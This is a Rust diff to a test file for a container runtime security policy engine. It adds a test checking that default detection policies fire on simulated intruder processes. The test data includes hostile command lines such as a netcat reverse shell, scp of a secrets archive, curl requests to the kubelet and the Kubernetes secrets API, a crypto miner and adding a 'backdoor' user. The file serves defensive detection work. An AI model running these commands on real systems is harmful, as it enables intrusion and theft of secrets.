@@ -1595,7 +1595,11 @@ fn process_criteria() {
         lineage: vec!["/usr/bin/tini".into()],
         ..shell.clone()
     };
-    check("shell without java", eval(&java_shell, &from_tini), Want::Pass);
+    check(
+        "shell without java",
+        eval(&java_shell, &from_tini),
+        Want::Pass,
+    );
     check(
         "no lineage",
         eval(
@@ -1622,7 +1626,11 @@ fn process_criteria() {
         args: "-k https://10.0.0.5:10250/pods".into(),
         ..shell.clone()
     };
-    check("kubelet probe", eval(&kubelet, &curl), Want::Violated("curl"));
+    check(
+        "kubelet probe",
+        eval(&kubelet, &curl),
+        Want::Violated("curl"),
+    );
     check("other arguments", eval(&kubelet, &shell), Want::Pass);
     // UID, with a comparator, and negation.
     let root = runtime(serde_json::json!([
@@ -1638,7 +1646,11 @@ fn process_criteria() {
         {"fieldName": "Process Name", "negate": true, "values": [{"value": "bash"}]}
     ]));
     check("negated name", eval(&not_bash, &shell), Want::Pass);
-    check("negated name, curl", eval(&not_bash, &curl), Want::Violated("curl"));
+    check(
+        "negated name, curl",
+        eval(&not_bash, &curl),
+        Want::Violated("curl"),
+    );
     // Static container criteria apply to the container that ran the process.
     let iptables_privileged = runtime(serde_json::json!([
         {"fieldName": "Privileged Container", "values": [{"value": "true"}]},
@@ -1664,7 +1676,11 @@ fn process_criteria() {
     match eval(&iptables_privileged, &in_sidecar) {
         Outcome::Violated(m) => {
             assert!(m[0].starts_with("Binary '/usr/sbin/iptables'"), "{m:?}");
-            assert!(m.iter().any(|x| x.contains("sidecar") && x.contains("privileged")), "{m:?}");
+            assert!(
+                m.iter()
+                    .any(|x| x.contains("sidecar") && x.contains("privileged")),
+                "{m:?}"
+            );
         }
         other => panic!("iptables in the privileged sidecar: {other:?}"),
     }
@@ -1689,4 +1705,251 @@ fn process_criteria() {
         {"fieldName": "Kubernetes Resource", "values": [{"value": "PODS_EXEC"}]}
     ]));
     check("kube criterion vs process", eval(&exec, &shell), Want::Pass);
+}
+
+/// Every enabled default process policy, on processes an intruder (or a careless operator)
+/// runs: each process raises exactly the policies that name it.
+#[test]
+fn default_runtime_policies_catch_what_they_name() {
+    use rampart_policy::{ProcessEvent, RuntimeEvent, evaluate_event};
+    let policies: Vec<_> = rampart_policy::defaults::default_policies()
+        .into_iter()
+        .filter(|p| !p.disabled && p.lifecycle_stages == [rampart_policy::LifecycleStage::Runtime])
+        .map(|p| compile(&p).unwrap_or_else(|e| panic!("{}: {e:?}", p.name)))
+        .collect();
+    let d = workload(
+        "",
+        "containers:\n- {name: app, image: 'app:1'}\n- {name: cni, image: 'cni:1', securityContext: {privileged: true}}",
+    );
+    let ctx = EvalContext::default();
+    let fired = |container: &str, path: &str, args: &str, uid: u32, lineage: &[&str]| {
+        let e = ProcessEvent {
+            container_name: container.into(),
+            name: path.rsplit('/').next().unwrap_or(path).into(),
+            exec_file_path: path.into(),
+            args: args.into(),
+            uid,
+            lineage: lineage.iter().map(|s| s.to_string()).collect(),
+            outside_locked_baseline: false,
+        };
+        let mut names: Vec<String> = policies
+            .iter()
+            .filter(|p| {
+                matches!(
+                    evaluate_event(p, &d, RuntimeEvent::Process(&e), &ctx),
+                    Outcome::Violated(_)
+                )
+            })
+            .map(|p| p.policy.name.clone())
+            .collect();
+        names.sort();
+        names
+    };
+    // (container, executable, arguments, uid, ancestors, policies that fire)
+    type Case<'a> = (&'a str, &'a str, &'a str, u32, &'a [&'a str], &'a [&'a str]);
+    let cases: &[Case] = &[
+        (
+            "app",
+            "/usr/bin/bash",
+            "-c id",
+            1000,
+            &["/usr/bin/java"],
+            &["Shell Spawned by Java Application"],
+        ),
+        (
+            "app",
+            "/usr/bin/bash",
+            "-c id",
+            1000,
+            &["/usr/bin/tini"],
+            &[],
+        ),
+        (
+            "app",
+            "/usr/bin/apt-get",
+            "install -y curl",
+            0,
+            &[],
+            &["Ubuntu Package Manager Execution"],
+        ),
+        (
+            "app",
+            "/sbin/apk",
+            "add curl",
+            0,
+            &[],
+            &["Alpine Linux Package Manager Execution"],
+        ),
+        (
+            "app",
+            "/usr/bin/dnf",
+            "install nc",
+            0,
+            &[],
+            &["Red Hat Package Manager Execution"],
+        ),
+        (
+            "app",
+            "/tmp/xmrig",
+            "-o pool:3333",
+            1000,
+            &[],
+            &["Cryptocurrency Mining Process Execution"],
+        ),
+        (
+            "app",
+            "/usr/bin/nc",
+            "-e /bin/sh 10.0.0.9 4444",
+            1000,
+            &[],
+            &["Netcat Execution Detected"],
+        ),
+        (
+            "app",
+            "/usr/bin/nmap",
+            "-sS 10.0.0.0/24",
+            0,
+            &[],
+            &["nmap Execution"],
+        ),
+        (
+            "app",
+            "/usr/sbin/sshd",
+            "-D",
+            0,
+            &[],
+            &["Secure Shell Server (sshd) Execution"],
+        ),
+        (
+            "app",
+            "/usr/bin/scp",
+            "secrets.tar host:",
+            1000,
+            &[],
+            &["Remote File Copy Binary Execution"],
+        ),
+        (
+            "app",
+            "/usr/sbin/useradd",
+            "backdoor",
+            0,
+            &[],
+            &["Linux User Add Execution"],
+        ),
+        (
+            "app",
+            "/usr/sbin/groupadd",
+            "g",
+            0,
+            &[],
+            &["Linux Group Add Execution"],
+        ),
+        (
+            "app",
+            "/usr/bin/crontab",
+            "-e",
+            0,
+            &[],
+            &["crontab Execution"],
+        ),
+        (
+            "app",
+            "/usr/bin/curl",
+            "-k https://10.0.0.5:10250/pods",
+            1000,
+            &[],
+            &["Process Targeting Cluster Kubelet Endpoint"],
+        ),
+        (
+            "app",
+            "/usr/bin/curl",
+            "-k https://kubernetes.default.svc/api/v1/secrets",
+            1000,
+            &[],
+            &["Process Targeting Kubernetes Service Endpoint"],
+        ),
+        (
+            "app",
+            "/usr/bin/curl",
+            "http://10.0.0.5:4194/metrics",
+            1000,
+            &[],
+            &["Process Targeting Cluster Kubernetes Docker Stats Endpoint"],
+        ),
+        (
+            "app",
+            "/usr/bin/curl",
+            "http://example.com:102500/",
+            1000,
+            &[],
+            &[],
+        ),
+        (
+            "app",
+            "/sbin/ip",
+            "route add default via 10.0.0.1",
+            0,
+            &[],
+            &["Network Management Execution"],
+        ),
+        (
+            "app",
+            "/usr/sbin/iptables",
+            "-L",
+            0,
+            &[],
+            &["iptables Execution"],
+        ),
+        (
+            "cni",
+            "/usr/sbin/iptables",
+            "-L",
+            0,
+            &[],
+            &[
+                "Iptables or nftables Executed in Privileged Container",
+                "iptables Execution",
+            ],
+        ),
+        (
+            "cni",
+            "/usr/sbin/iptables",
+            "-L",
+            1000,
+            &[],
+            &["iptables Execution"],
+        ),
+        (
+            "app",
+            "/usr/bin/make",
+            "all",
+            1000,
+            &[],
+            &["Compiler Tool Execution"],
+        ),
+        (
+            "app",
+            "/usr/bin/systemctl",
+            "start nginx",
+            0,
+            &[],
+            &["systemctl Execution"],
+        ),
+        ("app", "/usr/sbin/nginx", "-g daemon off;", 0, &[], &[]),
+        (
+            "app",
+            "/usr/bin/python3",
+            "app.py",
+            1000,
+            &["/usr/bin/java"],
+            &[],
+        ),
+    ];
+    for (container, path, args, uid, lineage, want) in cases {
+        assert_eq!(
+            fired(container, path, args, *uid, lineage),
+            want.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
+            "{path} {args} in {container} as {uid}"
+        );
+    }
 }
